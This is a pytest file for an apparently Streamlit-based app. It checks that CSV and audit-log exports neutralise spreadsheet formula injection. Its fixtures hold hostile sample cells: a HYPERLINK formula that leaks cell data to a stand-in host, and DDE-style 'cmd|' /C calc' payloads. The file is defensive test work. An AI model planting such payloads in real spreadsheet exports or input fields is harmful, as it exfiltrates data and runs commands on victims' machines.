"""CSV exports neutralise spreadsheet formulas: a cell starting with =, +, -, @, a tab, a
carriage return or NUL is offered with a leading single quote (OWASP / ASVS 1.2.10), in the
bytes the service builds and in the bytes the page's download button offers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from services import audit, exports
from tests.apptest.conftest import shell_runtime  # noqa: F401 (the AppTest runtime fixture)
from tests.conftest import app_test_for

HYPERLINK_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Acme Ltd")'
SUM_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK_NAME, SUM_NAME, "+1+1", "-2+3", "\t=1+1", "\r=1+1", "\0=1"]


def _parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_every_formula_prefix_is_neutralised() -> None:
    rows = [{"customer": name, "email": "a@b.io", "amount": -1250} for name in HOSTILE]
    rows.append({"customer": "Plain Name, Inc. \"quoted\"", "email": "x'@y.io", "amount": 0})
    parsed = _parse(exports.csv_bytes(rows))
    assert parsed[0] == ["customer", "email", "amount"]
    cells = [row[0] for row in parsed[1:]]
    assert cells[: len(HOSTILE)] == ["'" + name for name in HOSTILE]
    assert cells[-1] == 'Plain Name, Inc. "quoted"'  # RFC 4180 quoting round-trips, nothing added
    assert [row[2] for row in parsed[1:]] == ["-1250"] * len(HOSTILE) + ["0"]  # numbers stay numbers
    assert not any(cell.startswith(exports.FORMULA_PREFIXES) for row in parsed for cell in row if cell != "-1250")


@pytest.mark.parametrize("value", ["", "Acme", "'=already quoted", "a=b", " =1", "Zoë @ home"])
def test_harmless_text_is_unchanged(value: str) -> None:
    assert exports.neutralise_cell(value) == value


@pytest.fixture
def offered_files(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """Every file a page hands to Streamlit's media storage (what the browser would download)."""
    offered: list[dict[str, Any]] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def recording(self: Any, path_or_data: Any, mimetype: str, kind: Any, filename: str | None = None) -> str:
        offered.append({"data": path_or_data, "mimetype": mimetype, "filename": filename})
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    return offered


def test_audit_log_download_neutralises_customer_text(shell_runtime: Any,  # noqa: F811
                                                      offered_files: list[dict[str, Any]]) -> None:
    # Sign-in attempts record the typed account unauthenticated; targets carry customer names.
    with shell_runtime.uow() as uow:
        audit.record(uow, actor=HYPERLINK_NAME, action="sign_in.failed", result="denied", target=SUM_NAME)
        audit.record(uow, actor="ops@example.com", action="efw.refund", result="error",
                     target=f"cus_1 {HYPERLINK_NAME}", error="-cmd|' /C calc'!A0")
        uow.commit()
    at = app_test_for("audit", "admin")
    assert not at.exception
    csv_files = [f for f in offered_files if f["mimetype"] == "text/csv"]
    assert len(csv_files) == 1 and str(csv_files[0]["filename"]).startswith("audit-log-")
    parsed = _parse(csv_files[0]["data"])
    header, body = parsed[0], parsed[1:]
    by_action = {row[header.index("action")]: dict(zip(header, row, strict=True)) for row in body}
    assert by_action["sign_in.failed"]["actor"] == "'" + HYPERLINK_NAME
    assert by_action["sign_in.failed"]["target"] == "'" + SUM_NAME
    assert by_action["efw.refund"]["target"] == f"cus_1 {HYPERLINK_NAME}"  # not at the start: inert
    assert by_action["efw.refund"]["error"].startswith("'-cmd")
    assert not any(cell.startswith(exports.FORMULA_PREFIXES) for row in body for cell in row)
    # The table on the page still shows the text as it was typed.
    assert HYPERLINK_NAME in list(at.dataframe[0].value["actor"])
